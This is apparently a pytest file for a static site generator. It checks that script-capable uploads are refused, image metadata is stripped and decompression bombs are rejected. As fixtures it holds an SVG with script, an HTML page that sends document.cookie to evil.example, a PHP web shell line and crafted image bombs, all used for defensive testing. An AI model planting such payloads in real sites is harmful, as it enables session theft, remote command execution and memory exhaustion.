"""Images: files that could run script are never published; unusual modes and shapes come out right through a
build; no metadata survives in any container; a decompression bomb is refused in bounded memory.
(Bombs, damaged, mislabelled, CMYK, 16-bit and palette photos one by one: test_images.py.)"""
from __future__ import annotations

import io
import os
import struct
import subprocess
import sys
import zlib

import pytest
from PIL import Image, PngImagePlugin

from conftest import MINIMAL, REPO, build_files, parse_html, run_build, snapshot, story
from hardening_helpers import problems

S = "content/en/c/stories/"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script><rect width="9" height="9"/></svg>'
PAGE = b"<!doctype html><script>document.location='https://evil.example/?'+document.cookie</script>"


def encoded(image: Image.Image, fmt: str, **options) -> bytes:
    out = io.BytesIO()
    image.save(out, format=fmt, **options)
    return out.getvalue()


def test_files_that_could_run_script_are_never_published(make_project):
    project = make_project({
        **MINIMAL,
        S + "photo.md": story("Photo", extra="image: logo.svg\nimage_alt: Logo\n"),
        S + "logo.svg": SVG,
        S + "disguised.md": story("Disguised", "![x](drawing.png)", date="2026-05-02"),
        S + "drawing.png": SVG,
        S + "linked.md": story("Linked", "[the logo](logo.svg) and [a page](page.html) and [old](page.HTM)",
                               date="2026-05-03"),
        S + "page.html": PAGE,
        S + "page.HTM": PAGE,
        "content/media/evil.svg": SVG,
        "content/media/pages/index.html": PAGE,
        "content/media/report.pdf": b"%PDF-1.4 fine",
        "content/media/the.2026.report.pdf": b"%PDF-1.4 fine too",
        "content/media/evil.xhtm": PAGE,
        "content/media/trailing.html.": PAGE,  # x.html on Windows
        "content/media/upload.php": b"<?php system($_GET['c']); ?>",  # runs on shared hosting with PHP
        "content/media/double.html.zz": PAGE,  # Apache serves it as a web page
        "content/media/ulotka.pl.pdf": b"%PDF-1.4 a Polish flyer",  # .pl in the middle: Poland, not Perl
    })
    code, _, stderr = run_build(project)
    assert code == 1
    firsts = [block.splitlines()[0] for block in problems(stderr)]
    why = "file opened from your site could run a script there"
    assert firsts == [
        f"{S}disguised.md:5: drawing.png is a web page or SVG file, not a photo",
        f"{S}linked.md:5: `logo.svg` is not published: a .svg {why}",
        f"{S}linked.md:5: `page.HTM` is not published: a .htm {why}",
        f"{S}linked.md:5: `page.html` is not published: a .html {why}",
        f"{S}photo.md:4:8: image: `logo.svg` is not a photo; photos must be JPEG, PNG, WebP or GIF",
        f"content/media/double.html.zz: `double.html.zz` is not published: a .html {why}",
        f"content/media/evil.svg: `evil.svg` is not published: a .svg {why}",
        f"content/media/evil.xhtm: `evil.xhtm` is not published: a .xhtm {why}",
        f"content/media/pages/index.html: `index.html` is not published: a .html {why}",
        f"content/media/trailing.html.: `trailing.html.` is not published: a .html {why}",
        f"content/media/upload.php: `upload.php` is not published: a .php {why}",
    ]
    (double,) = [block for block in problems(stderr) if block.startswith("content/media/double.html.zz")]
    assert double.splitlines()[1] == "  hint: rename it without `.html`, like `double.zz`"


def shapes_world() -> dict[str, str | bytes]:
    palette_rgba = Image.new("P", (30, 20))
    palette_rgba.putpalette([255, 0, 0, 0, 0, 255] + [0] * 762)
    frames = [Image.new("RGB", (40, 30), (60 * i, 0, 0)) for i in range(4)]
    photos = {
        "dot.png": encoded(Image.new("RGB", (1, 1), "red"), "PNG"),
        "tall.jpg": encoded(Image.new("RGB", (10, 3000), "blue"), "JPEG"),
        "wide.png": encoded(Image.new("L", (3000, 10), 128), "PNG"),
        "bits.png": encoded(Image.new("1", (33, 17), 1), "PNG"),
        "grey-alpha.png": encoded(Image.new("LA", (20, 20), (100, 50)), "PNG"),
        "palette.png": encoded(palette_rgba, "PNG", transparency=0),
        "deep.png": encoded(Image.new("I;16", (25, 25), 40000), "PNG"),
        "cmyk.jpg": encoded(Image.new("CMYK", (30, 30), (0, 255, 255, 0)), "JPEG"),
        "moving.gif": encoded(frames[0], "GIF", save_all=True, append_images=frames[1:], duration=100, loop=0),
        "still.webp": encoded(Image.new("RGBA", (30, 30), (0, 128, 0, 128)), "WEBP", lossless=True),
    }
    body = "\n\n".join(f"![{name}]({name})" for name in photos)
    return {**MINIMAL, S + "maria.md": story("Maria", body), **{S + name: data for name, data in photos.items()}}


EXPECTED_SIZES = {"dot.png": (1, 1), "tall.jpg": (10, 3000), "wide.png": (1600, 5), "bits.png": (33, 17),
                  "grey-alpha.png": (20, 20), "palette.png": (30, 20), "deep.png": (25, 25), "cmyk.jpg": (30, 30),
                  "moving.gif": (40, 30), "still.webp": (30, 30)}


def test_unusual_modes_and_shapes_are_published_with_their_size(make_project):
    files = build_files(make_project(shapes_world()), workers=1)
    prose = next(div for div in parse_html(files["c/stories/maria/index.html"]).iter("div")
                 if div.get("class") == "prose")
    images = {img.get("alt"): img for img in prose.iter("img")}
    assert sorted(images) == sorted(EXPECTED_SIZES)
    for name, (width, height) in EXPECTED_SIZES.items():
        img = images[name]
        assert (int(img.get("width")), int(img.get("height"))) == (width, height), name
        published = Image.open(io.BytesIO(files[img.get("src").lstrip("/")]))
        assert published.size == (width, height), name
        assert published.mode in ("RGB", "RGBA", "L", "LA", "P"), (name, published.mode)
    gif = Image.open(io.BytesIO(files[images["moving.gif"].get("src").lstrip("/")]))
    assert gif.n_frames == 4  # an animation stays animated
    cmyk = Image.open(io.BytesIO(files[images["cmyk.jpg"].get("src").lstrip("/")]))
    assert cmyk.mode == "RGB" and cmyk.getpixel((15, 15))[0] > 200 > cmyk.getpixel((15, 15))[1] + 100


MARK = b"SECRET-METADATA"


def with_metadata() -> dict[str, bytes]:
    rgb = Image.new("RGB", (64, 48), (200, 30, 60))
    exif = Image.Exif()
    exif[0x010E] = MARK.decode()  # ImageDescription
    exif[0x8825] = {1: "N", 2: (59.0, 19.0, 42.5), 3: "E", 4: (18.0, 4.0, 7.25)}  # GPS
    xmp = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:Description>' + MARK + b"</rdf:Description></x:xmpmeta>"
    png_info = PngImagePlugin.PngInfo()
    png_info.add_text("Comment", MARK.decode())
    png_info.add_text("Author", MARK.decode(), zip=True)  # zTXt
    png_info.add_itxt("XML:com.adobe.xmp", xmp.decode())
    frames = [Image.new("RGB", (20, 20), (i * 80, 0, 0)) for i in range(3)]
    return {
        "exif.jpg": encoded(rgb, "JPEG", exif=exif.tobytes(), comment=MARK, xmp=xmp),
        "text.png": encoded(rgb, "PNG", pnginfo=png_info, exif=exif.tobytes()),
        "meta.webp": encoded(rgb, "WEBP", exif=exif.tobytes(), xmp=xmp),
        "still.gif": encoded(rgb.convert("P"), "GIF", comment=MARK),
        "moving.gif": encoded(frames[0], "GIF", save_all=True, append_images=frames[1:], comment=MARK),
    }


def test_no_metadata_survives_in_any_container(make_project):
    photos = with_metadata()
    for name, data in photos.items():
        assert MARK in data, name  # the test files do carry it
    body = "\n\n".join(f"![{name}]({name})" for name in photos)
    files = build_files(make_project({**MINIMAL, S + "maria.md": story("Maria", body),
                                      **{S + name: data for name, data in photos.items()}}), workers=1)
    published = {rel: data for rel, data in files.items() if rel.startswith("img/")}
    assert len(published) >= len(photos)
    assert [rel for rel, data in published.items() if MARK in data or b"Exif\x00\x00" in data] == []
    assert [rel for rel, data in published.items() if Image.open(io.BytesIO(data)).getexif()] == []


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


BOMBS = {
    "bomb.png": b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", struct.pack(">IIBBBBB", 100_000, 100_000, 8, 6, 0, 0, 0))
                + png_chunk(b"IDAT", zlib.compress(b"\x00" * 100_000)) + png_chunk(b"IEND", b""),
    # a JPEG whose frame header claims 65000 x 65000 pixels
    "bomb.jpg": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
                + b"\xff\xc0\x00\x11\x08" + struct.pack(">HH", 65000, 65000) + b"\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01"
                + b"\xff\xda\x00\x0c\x03\x01\x00\x02\x11\x03\x11\x00\x3f\x00" + b"\x00" * 5000 + b"\xff\xd9",
    # a GIF whose screen and frame are 65535 x 65535
    "bomb.gif": b"GIF89a" + struct.pack("<HH", 65535, 65535) + b"\x00\x00\x00"
                + b"," + struct.pack("<HHHH", 0, 0, 65535, 65535) + b"\x00\x02\x02\x44\x01\x00;",
}

MEASURE = """
import sys
from pathlib import Path
from handbill.images import ImageProblem, publish_image
refused = 0
for path in sorted(Path(sys.argv[1]).iterdir()):
    try:
        publish_image(path)
    except ImageProblem:
        refused += 1
# this process's own peak (ru_maxrss would also count the test runner's, which this process was forked from)
peak = next(line for line in Path("/proc/self/status").read_text().splitlines() if line.startswith("VmHWM:"))
print(refused, peak.split()[1])  # KB
"""


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="/proc/self/status is Linux's")
def test_bombs_are_refused_before_they_take_memory(tmp_path):
    for name, data in BOMBS.items():
        (tmp_path / name).write_bytes(data)
    done = subprocess.run([sys.executable, "-c", MEASURE, str(tmp_path)], capture_output=True, text=True,
                          env={**os.environ, "PYTHONPATH": str(REPO)}, timeout=60)
    assert done.returncode == 0, done.stderr
    refused, peak_kb = map(int, done.stdout.split())
    assert refused == len(BOMBS)
    assert peak_kb < 300 * 1024  # decoding any of them would take gigabytes; the interpreter takes ~60 MB


def test_a_bomb_saved_in_media_is_published_only_as_the_file_it_is(make_project):
    # media/ is copied as is (never decoded), so a bomb there costs no memory and is no error
    project = make_project({**MINIMAL, "content/media/bomb.png": BOMBS["bomb.png"]})
    assert run_build(project)[0] == 0
    assert snapshot(project / "site")["media/bomb.png"] == BOMBS["bomb.png"]
